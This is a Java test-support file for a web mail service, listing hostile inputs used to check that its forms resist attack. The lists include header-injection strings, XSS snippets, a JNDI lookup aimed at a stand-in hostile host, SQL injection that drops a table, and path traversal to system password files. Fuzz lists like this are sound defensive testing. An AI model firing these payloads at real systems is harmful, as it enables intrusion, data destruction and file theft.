package org.aldermail.hostile;

import java.util.List;
import java.util.regex.Pattern;

/** Classic hostile inputs, each aimed at one way a web form goes wrong. */
final class Payloads {

    /** A part that would become a header of its own if a CR or LF got through. */
    static final String INJECTED_HEADER = "X-Aldermail-Injected: yes";

    static final List<String> STRINGS = List.of(
            // header injection, CR/LF and NUL
            "a\r\n" + INJECTED_HEADER,
            "a\n" + INJECTED_HEADER,
            "a\rBcc: hostile-bcc@hostile.invalid",
            "ana@example.org\r\nBcc: hostile-bcc@hostile.invalid",
            "a\u0000b",
            "%0d%0a" + INJECTED_HEADER,
            // RFC 2047 encoded words that decode into a fake sender or a line break
            "=?UTF-8?Q?Mayor_Johnson_=3Cmayor@hostile.invalid=3E?=",
            "=?UTF-8?B?DQpCY2M6IGhvc3RpbGVAaG9zdGlsZS5pbnZhbGlk?=",
            "=?ISO-8859-1?Q?=0D=0ABcc:_x?=",
            // markup and script
            "<script>alert('aldermail')</script>",
            "\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "{#include layout/page}{/include}{inject:clock}",
            "${jndi:ldap://hostile.invalid/a}",
            // SQL
            "'; DROP TABLE letter; --",
            "' OR '1'='1",
            "1; SELECT pg_sleep(10)",
            // paths
            "../../../../etc/passwd",
            "..%2F..%2F..%2Fetc%2Fpasswd",
            "..\\..\\windows\\win.ini",
            "/dev/zero",
            // sizes
            "x".repeat(100_000),
            "é".repeat(25_000),
            "",
            " ",
            // UTF-16 and Unicode tricks
            "\uD800",
            "x\uDC00y",
            "\uDBFF\uDBFF",
            "\u202Egnp.exe",
            "\u2066abc\u2069",
            "\u2028\u2029",
            "\uFEFF",
            "😀👍🏽",
            // numbers
            "NaN",
            "Infinity",
            "-Infinity",
            "1e309",
            "-0",
            "99999999999999999999",
            "-2147483649",
            "0x10",
            "15.5",
            // JSON in a string
            "{}",
            "[]",
            "null",
            "true");

    /** One of each kind, for the places where every payload of a kind takes the same path (fewer requests). */
    static final List<String> CORE = List.of(
            "a\r\n" + INJECTED_HEADER,
            "a\u0000b",
            "=?UTF-8?Q?Mayor_Johnson_=3Cmayor@hostile.invalid=3E?=",
            "<script>alert('aldermail')</script>",
            "\"><img src=x onerror=alert(1)>",
            "'; DROP TABLE letter; --",
            "../../../../etc/passwd",
            "x".repeat(100_000),
            "",
            "x\uDC00y",
            "\u202Egnp.exe",
            "NaN",
            "-2147483649",
            "{}");

    /** JSON values of the wrong type, or out of range, for any field of a JSON body. */
    static final List<String> JSON_VALUES = List.of(
            "null",
            "true",
            "0",
            "-1",
            "1e309",
            "-1e309",
            "99999999999999999999999",
            "1.7976931348623157E309",
            "[]",
            "[1,2]",
            "{}",
            "{\"$gt\":\"\"}",
            "\"NaN\"",
            "\"Infinity\"",
            "NaN",
            "Infinity");

    /** Whole bodies that are not the JSON object expected. */
    static final List<String> JSON_BODIES = List.of(
            "",
            "{",
            "null",
            "[]",
            "\"text\"",
            "42",
            "{\"name\":\"a\",\"name\":\"b\"}",
            "[".repeat(10_000) + "]".repeat(10_000),
            "{\"a\":" + "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_001),
            "\u0000");

    private static final Pattern LINE_BREAK = Pattern.compile("[\r\n]+");
    /** What a header line looks like: a token, a colon, a value. */
    private static final Pattern HEADER_LINE = Pattern.compile("[!#$%&'*+.^_`|~0-9A-Za-z-]+:.*");

    /** The header lines of a payload after a CR or LF: what must never show up as a response header. */
    static List<String> injectedParts(String payload) {
        String[] parts = LINE_BREAK.split(payload);
        return java.util.Arrays.stream(parts)
                .skip(1)
                .map(String::trim)
                .filter(part -> HEADER_LINE.matcher(part).matches())
                .toList();
    }

    /** Whether a payload is markup that must never come back unescaped in a page. */
    static boolean isMarkup(String payload) {
        return payload.contains("<script") || payload.contains("<img");
    }

    private Payloads() {}
}
